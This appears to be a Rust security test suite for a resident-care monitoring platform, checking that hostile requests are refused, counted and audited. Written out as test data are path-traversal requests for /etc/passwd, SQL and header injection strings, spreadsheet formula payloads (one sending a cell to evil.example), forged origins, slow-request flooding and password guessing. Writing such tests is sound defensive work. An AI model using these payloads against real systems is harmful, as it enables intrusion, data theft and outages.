//! Attempts to get at what is not one's own. Every one is refused, is seen in the audit log or the metrics, and the
//! platform stays up.

use anyhow::{Context as _, Result, ensure};
use reqwest::{Client, Method, header};
use serde_json::{Value, json};
use std::{io::Read as _, time::Duration};
use tests::{
    Account, Answer, PATIENCE, Platform,
    account::PASSWORD,
    account::try_log_in,
    live, until,
    wire::{self, Version, Wire},
};
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
    time::{Instant, sleep, timeout},
};
use tokio_tungstenite::client_async;

async fn bytes(platform: &Platform, request: &str) -> Result<String> {
    let mut tcp = TcpStream::connect(platform.at.http.trim_start_matches("http://")).await?;
    tcp.write_all(request.as_bytes()).await?;
    let mut answer = Vec::new();
    timeout(PATIENCE, tcp.read_to_end(&mut answer)).await??;
    Ok(String::from_utf8_lossy(&answer).into_owned())
}

/// Requests that were refused with this status so far, as the metrics tell.
async fn refused(platform: &Platform, status: u16) -> Result<f64> {
    platform.figure(&format!("jujiale_requests_refused_total{{status=\"{status}\"}}")).await
}

/// Says that each of so many attempts was counted since the metrics told `before`.
async fn are_counted(platform: &Platform, status: u16, before: f64, attempts: u32) -> Result<()> {
    let now = refused(platform, status).await?;
    ensure!(now >= before + f64::from(attempts), "{attempts} attempts, {status}: {before} before, {now} now");
    Ok(())
}

/// A foreign resident's id, a grant that ended, a cookie after log-out, somebody else's session.
async fn by_identity(platform: &Platform) -> Result<()> {
    let (strangers, foreign) = (refused(platform, 401).await?, refused(platform, 403).await?);
    let relative = platform.log_in("relative").await?;
    for path in ["/api/residents/r-0002", "/api/residents/r-0002/track", "/api/residents/r-0002/relatives"] {
        let answer = relative.get(path).await?;
        ensure!(answer.is_problem(403), "{path}: {answer:?}");
    }
    by_acts(platform, &relative).await?;
    let supervisor = platform.log_in("supervisor").await?;
    ensure!(supervisor.delete("/api/residents/r-0001/relatives/relative").await?.status == 204);
    for path in ["/api/residents/r-0001", "/api/residents/r-0001/track", "/api/incidents"] {
        let answer = relative.get(path).await?;
        ensure!(answer.is_problem(403), "a grant that ended, {path}: {answer:?}");
    }
    let thief = relative.clone();
    ensure!(relative.delete("/api/session").await?.status == 204);
    ensure!(thief.get("/api/me").await?.is_problem(401), "a cookie played again after log-out");
    let mut forged: Account = thief;
    forged.cookie = format!("jujiale_session={}", "0".repeat(64));
    ensure!(forged.get("/api/me").await?.is_problem(401), "a forged cookie");
    are_counted(platform, 401, strangers, 2).await?;
    are_counted(platform, 403, foreign, 6).await
}

/// What is no look at a person, and not a relative's to do: who tried what, about whom and from where, is on record.
async fn by_acts(platform: &Platform, relative: &Account) -> Result<()> {
    let before = refused(platform, 403).await?;
    let tried = [
        ("/api/residents/r-0002/export?reason=x", "r-0002", "AnswerForData"),
        ("/api/residents/r-0003/absences", "r-0003", "ManageDrills"),
        ("/api/audit", "/api/audit", "ReadAudit"),
        ("/api/users", "/api/users", "ManageAccounts"),
    ];
    for (path, _, _) in tried {
        let answer = relative.get(path).await?;
        ensure!(answer.is_problem(403), "{path}: {answer:?}");
    }
    are_counted(platform, 403, before, 4).await?;
    let auditor = platform.log_in("auditor").await?;
    let rows = auditor.list("/api/audit?action=access_refused&username=relative").await?;
    ensure!(rows.len() == tried.len(), "one each: {rows:?}");
    for (path, subject, action) in tried {
        let is_it = |row: &Value| {
            let says = row["detail"].as_str().is_some_and(|detail| detail.contains(action));
            row["subject"] == subject && row["source"] == "127.0.0.1" && says
        };
        ensure!(rows.iter().any(is_it), "{path}: {rows:?}");
    }
    Ok(())
}

/// Incidents of others, and those that never were: a relative cannot tell them apart, and each try is on record.
async fn by_incident(platform: &Platform) -> Result<()> {
    let (relative, operator) = (platform.log_in("relative").await?, platform.log_in("operator").await?);
    platform.handset("demo-0085").await?.press("of another", "b", 1).await?;
    let incident =
        until("an incident", PATIENCE, async || Ok(operator.incidents("open").await?.pop())).await?;
    let id = incident["id"].as_str().context("an id")?;
    let (missing, foreign) = (refused(platform, 404).await?, refused(platform, 403).await?);
    let mut told = Vec::new();
    for path in [format!("/api/incidents/{id}"), "/api/incidents/i-made-up".to_owned()] {
        for part in ["", "/events"] {
            let answer = relative.get(&format!("{path}{part}")).await?;
            ensure!(answer.is_problem(404), "{path}{part}: {answer:?}");
            told.push(answer.body["detail"].clone());
        }
    }
    ensure!(told.iter().all(|detail| *detail == told[0]), "they look alike: {told:?}");
    let station = platform.log_in("station").await?.get(&format!("/api/incidents/{id}")).await?;
    ensure!(station.is_problem(403), "{station:?}");
    are_counted(platform, 404, missing, 4).await?;
    are_counted(platform, 403, foreign, 1).await?;
    let auditor = platform.log_in("auditor").await?;
    for (username, subject, count) in [("relative", id, 2), ("relative", "i-made-up", 2), ("station", id, 1)]
    {
        let query = format!("/api/audit?action=look_refused&username={username}&subject={subject}");
        let rows = auditor.list(&query).await?;
        ensure!(rows.len() == count, "{username} at {subject}: {rows:?}");
    }
    // An act that is not theirs is found by whom the incident was about then.
    ensure!(platform.log_in("admin").await?.claim(&incident).await?.is_problem(403));
    let rows = auditor.list("/api/audit?action=access_refused&username=admin&resident=r-0085").await?;
    let says_whom = |row: &Value| row["detail"].as_str().is_some_and(|said| said.ends_with("; about r-0085"));
    ensure!(rows.len() == 1 && rows.iter().all(says_whom), "{rows:?}");
    let claimed = operator.claim(&incident).await?.ok()?;
    ensure!(operator.close(&claimed).await?.status == 200);
    Ok(())
}

/// A page of another origin, with this browser's cookie.
async fn by_origin(platform: &Platform) -> Result<()> {
    let operator = platform.log_in("operator").await?;
    let before = refused(platform, 403).await?;
    let mut request = live::request(&operator)?;
    request.headers_mut().insert("origin", "http://evil.example".parse()?);
    let tcp = TcpStream::connect(operator.base.trim_start_matches("http://")).await?;
    ensure!(client_async(request, tcp).await.is_err(), "a forged websocket origin");
    let post =
        operator.request(Method::POST, "/api/session/lock").header(header::ORIGIN, "http://evil.example");
    ensure!(Answer::of(post).await?.is_problem(403));
    are_counted(platform, 403, before, 2).await?;
    let told = platform.log_text()?.matches("foreign_origin_refused").count();
    ensure!(told == 2, "each is a line in the log: {told}");
    Ok(())
}

/// A topic of another handset.
async fn by_topic(platform: &Platform) -> Result<()> {
    let mut wire =
        Wire::try_in(platform.mqtt_port()?, "demo-0081", "demo-0081").await?.context("it is let in")?;
    wire.send(&wire::publish(Version::V3, "jjl/demo-0082/press", 1, 1, b"{}")).await?;
    wire.ended().await.context("a topic of another handset")?;
    let operator = platform.log_in("operator").await?;
    ensure!(operator.incidents("open").await?.is_empty(), "nobody was pressed for");
    let admin = platform.log_in("admin").await?;
    let kept =
        until("it in quarantine", PATIENCE, async || Ok(admin.list("/api/quarantine").await?.pop())).await?;
    ensure!(kept["topic"] == "jjl/demo-0082/press", "{kept}");
    Ok(())
}

/// More than is taken, sent without haste: the reason arrives, not a broken line.
async fn by_size(platform: &Platform) -> Result<()> {
    let before = refused(platform, 413).await?;
    let (pieces, piece) = (16, vec![b' '; 64 * 1024]);
    let head = format!(
        "POST /api/session HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n",
        pieces * piece.len()
    );
    let mut tcp = TcpStream::connect(platform.at.http.trim_start_matches("http://")).await?;
    tcp.write_all(head.as_bytes()).await?;
    for sent in 0..pieces {
        tcp.write_all(&piece).await.with_context(|| format!("after {sent} pieces of a megabyte"))?;
        sleep(Duration::from_millis(20)).await;
    }
    let mut answer = [0; 64];
    let length = timeout(PATIENCE, tcp.read(&mut answer)).await??;
    let answer = String::from_utf8_lossy(&answer[..length]);
    ensure!(answer.starts_with("HTTP/1.1 413 "), "{answer}");
    are_counted(platform, 413, before, 1).await
}

/// Paths out of the folder of pages.
async fn by_path(platform: &Platform) -> Result<()> {
    let before = refused(platform, 404).await?;
    // What was refused before has had its lines of this second.
    sleep(Duration::from_millis(1_100)).await;
    for path in [
        "/../../../../etc/passwd",
        "/assets/../../../../etc/passwd",
        "/..%2f..%2f..%2fetc/passwd",
        "/assets/%2e%2e/%2e%2e/keys.json",
        "/tiles/..%5c..%5cetc/passwd",
        "//etc/passwd",
        "/assets/%00",
    ] {
        let answer =
            bytes(platform, &format!("GET {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")).await?;
        ensure!(answer.starts_with("HTTP/1.1 404"), "{path}: {answer}");
        ensure!(!answer.contains("root:") && !answer.contains("key_id"), "{path}: {answer}");
    }
    are_counted(platform, 404, before, 7).await?;
    let log = platform.log_text()?;
    let mut lines = log.lines().filter(|line| line.contains("request_refused") && !line.contains("route="));
    ensure!(lines.any(|line| line.contains("404") && line.contains("peer=127.0.0.1")), "from where: {log}");
    Ok(())
}

/// SQL where a name is expected, and line breaks where a header is made.
async fn by_injection(platform: &Platform) -> Result<()> {
    let evil = "x' OR '1'='1";
    let (strangers, wrong) = (refused(platform, 401).await?, refused(platform, 400).await?);
    ensure!(try_log_in(&platform.at.http, evil, evil).await?.is_problem(401));
    let supervisor = platform.log_in("supervisor").await?;
    let query = |pairs: &[(&str, &str)]| {
        let url = reqwest::Url::parse_with_params("http://x/", pairs)?;
        anyhow::Ok(url.query().unwrap_or_default().to_owned())
    };
    let found = supervisor.list(&format!("/api/residents?{}", query(&[("q", "%' OR 1=1 --")])?)).await?;
    ensure!(found.is_empty(), "{found:?}");
    let found =
        supervisor.list(&format!("/api/audit?{}", query(&[("subject", "x' UNION SELECT 1 --")])?)).await?;
    ensure!(found.is_empty(), "{found:?}");
    let nul = supervisor.get("/api/audit?username=%00").await?;
    ensure!(nul.status == 400 || nul.status == 200, "{nul:?}");
    let split = query(&[("format", "csv\r\nSet-Cookie: jujiale_session=x"), ("reason", "x\r\ny")])?;
    let answer = supervisor.get(&format!("/api/residents/r-0002/track?{split}")).await?;
    ensure!(answer.status == 400 && answer.header("set-cookie").is_empty(), "{answer:?}");
    are_counted(platform, 401, strangers, 1).await?;
    are_counted(platform, 400, wrong, 1).await?;
    let reason = supervisor
        .get(&format!("/api/residents/r-0002?{}", query(&[("reason", "=cmd|' /C calc'!A0")])?))
        .await?;
    ensure!(reason.status == 200, "{reason:?}");
    let admin = platform.log_in("admin").await?;
    let export = admin.request(Method::GET, "/api/residents/r-0002/export?part=looks&reason=x");
    let export = export.send().await?.text().await?;
    ensure!(export.contains("\"'=cmd|' /C calc'!A0\""), "a formula in an export: {export}");
    Ok(())
}

/// What every answer tells a browser, so that no script of others runs and no other page shows this one.
async fn by_markup(platform: &Platform) -> Result<()> {
    let operator = platform.log_in("operator").await?;
    for path in ["/", "/station", "/family", "/api/me", "/api/no-such-thing", "/no-such-page"] {
        let answer = operator.request(Method::GET, path).send().await?;
        let header =
            |name: &str| answer.headers().get(name).and_then(|value| value.to_str().ok()).unwrap_or_default();
        let policy = header("content-security-policy");
        for rule in [
            "default-src 'self'",
            "script-src 'self';",
            "object-src 'none'",
            "base-uri 'none'",
            "frame-ancestors 'none'",
        ] {
            ensure!(policy.contains(rule), "{path}: {policy}");
        }
        ensure!(
            header("x-content-type-options") == "nosniff" && header("x-frame-options") == "DENY",
            "{path}"
        );
        ensure!(header("referrer-policy") == "no-referrer", "{path}");
        ensure!(!path.starts_with("/api/") || header("cache-control") == "no-store", "{path}");
    }
    Ok(())
}

/// A station whose name is a formula, in the tables that supervisors open.
async fn by_formula(platform: &Platform) -> Result<()> {
    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";
    let (admin, supervisor) = (platform.log_in("admin").await?, platform.log_in("supervisor").await?);
    let station =
        json!({ "name": evil, "place": { "lat": 33.96, "lon": 118.28 }, "telephone": "x", "on_duty": true });
    admin.put("/api/stations/formula", &station).await?.ok()?;
    crate::reports::helped(platform, "demo-0084", "formula", evil).await?;
    let path = format!("/api/reports/quarter?quarter={}", crate::reports::quarter());
    let (_, csv) = crate::reports::bytes(&supervisor, &format!("{path}&format=csv")).await?;
    let csv = String::from_utf8(csv)?;
    ensure!(csv.contains(",\"'=HYPERLINK(\"\"http://evil"), "a formula in a table: {csv}");
    let (_, workbook) = crate::reports::bytes(&supervisor, &format!("{path}&format=xlsx")).await?;
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(workbook))?;
    let mut part = |path: &str| -> Result<String> {
        let mut text = String::new();
        archive.by_name(path)?.read_to_string(&mut text)?;
        Ok(text)
    };
    let (words, cells) = (part("xl/sharedStrings.xml")?, part("xl/worksheets/sheet1.xml")?);
    ensure!(
        words.contains("=HYPERLINK(\"http://evil") && !cells.contains("<f>"),
        "a formula: {words} {cells}"
    );
    Ok(())
}

/// Where slow bodies are sent to, and the telephone's name and secret: `demo-phone:demo-phone`.
const SLOW_AT: [&str; 3] = ["/api/session", "/owntracks", "/osmand"];
const PHONE: &str = "ZGVtby1waG9uZTpkZW1vLXBob25l";

/// Requests that are too large, or never end.
async fn by_weight(platform: &Platform) -> Result<()> {
    let large = Client::new().post(format!("{}/api/session", platform.at.http)).body("x".repeat(10 << 20));
    let answer = large.header(header::CONTENT_TYPE, "application/json").send().await;
    ensure!(answer.is_err() || answer.is_ok_and(|answer| answer.status() == 413), "ten megabytes");
    let headers = format!("GET / HTTP/1.1\r\nHost: x\r\nCookie: {}\r\n\r\n", "x".repeat(1 << 20));
    let answer = bytes(platform, &headers).await.unwrap_or_default();
    ensure!(!answer.contains(" 200 "), "a megabyte of headers: {answer}");
    // Slow ones by the hundred, those of telephones among them, and somebody who is in a hurry beside them.
    let (mut slow, before) = (Vec::new(), refused(platform, 503).await?);
    for nth in 0..200 {
        let mut tcp = TcpStream::connect(platform.at.http.trim_start_matches("http://")).await?;
        let path = SLOW_AT[nth % SLOW_AT.len()];
        let head = format!("POST {path} HTTP/1.1\r\nHost: x\r\nAuthorization: Basic {PHONE}\r\n");
        let begun = "Content-Type: application/json\r\nContent-Length: 100\r\n\r\n{";
        tcp.write_all(format!("{head}{begun}").as_bytes()).await?;
        slow.push((path, tcp));
    }
    let began = Instant::now();
    platform.log_in("operator").await?;
    ensure!(began.elapsed() < PATIENCE, "slow ones hold up nobody");
    // A request whose head never comes to its end is ended.
    let mut tcp = TcpStream::connect(platform.at.http.trim_start_matches("http://")).await?;
    tcp.write_all(b"GET / HTTP/1.1\r\nHo").await?;
    let mut rest = Vec::new();
    timeout(Duration::from_mins(1), tcp.read_to_end(&mut rest)).await.context("a head that never ends")??;
    // A body that never comes to its end is given up, and nothing of it was taken.
    for (path, mut tcp) in slow {
        let mut answer = [0; 12];
        let answered = timeout(Duration::from_mins(1), tcp.read_exact(&mut answer)).await;
        answered.with_context(|| format!("{path}: a body that never ends"))??;
        ensure!(&answer == b"HTTP/1.1 503", "{path}: {}", String::from_utf8_lossy(&answer));
    }
    are_counted(platform, 503, before, 200).await
}

#[tokio::test]
async fn every_attempt_is_refused_and_the_platform_stays_up() -> Result<()> {
    let platform = Platform::start().await?;
    by_incident(&platform).await?;
    by_identity(&platform).await?;
    by_origin(&platform).await?;
    by_topic(&platform).await?;
    by_size(&platform).await?;
    by_path(&platform).await?;
    by_injection(&platform).await?;
    by_markup(&platform).await?;
    by_formula(&platform).await?;
    by_weight(&platform).await?;
    let (wrong, too_many) = (refused(&platform, 401).await?, refused(&platform, 429).await?);
    for guess in 0..6 {
        let answer = try_log_in(&platform.at.http, "admin", &format!("guess-{guess}")).await?;
        ensure!(answer.is_problem(if guess < 5 { 401 } else { 429 }), "{guess}: {answer:?}");
    }
    are_counted(&platform, 401, wrong, 5).await?;
    are_counted(&platform, 429, too_many, 1).await?;
    let auditor = platform.log_in("auditor").await?;
    ensure!(
        auditor.list("/api/audit?action=log_in_failed&username=admin").await?.len() == 5,
        "failures are on record"
    );
    let refused = auditor.list("/api/audit?action=look_refused&username=relative").await?;
    let whose = |of: &str| refused.iter().any(|row| row["subject"] == of);
    ensure!(whose("r-0001") && whose("r-0002"), "looks that were refused are on record: {refused:?}");
    ensure!(platform.health().await?["status"] != "down");
    let handset = platform.handset("demo-0083").await?;
    handset.press("after it all", "b", 1).await?;
    ensure!(try_log_in(&platform.at.http, "operator", PASSWORD).await?.status == 200);
    platform.is_whole().await
}
